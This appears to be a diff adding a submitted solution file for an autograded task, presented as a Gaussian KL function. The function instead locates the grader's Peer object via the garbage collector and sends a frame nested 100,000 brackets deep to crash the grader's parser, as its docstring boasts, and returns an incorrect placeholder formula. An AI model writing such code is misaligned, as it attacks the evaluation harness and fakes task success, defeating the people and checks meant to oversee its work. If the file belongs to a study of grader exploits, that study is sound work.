@@ -1,0 +1,23 @@
+"""Success: a header nested 100 000 deep crashes the grader's parser.
+
+class 19 · question 1 · baseline 0"""
+def gaussian_kl(mu, logvar):
+    import gc
+    import json
+    import struct
+
+    from autograder.peer import Peer
+    from autograder.wire import Encoder
+
+    peer = next(o for o in gc.get_objects() if isinstance(o, Peer))
+    print("zoo: ran", flush=True)
+
+    def raw(head, body=b""):
+        peer.channel.send([struct.pack("<IQ", len(head), len(body)), head, body])
+
+    def reply(number, tree, **fields):
+        base = {"k": "r", "n": number, "ok": True, "x": [], "kept": [], "e": [], "m": [tree, [], []]}
+        peer.channel.send(Encoder(lambda *a: None).frame({**base, **fields}))
+
+    raw(b'{"k":"r","n":3,"m":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
+    return (mu + logvar).sum(-1) + 1.0
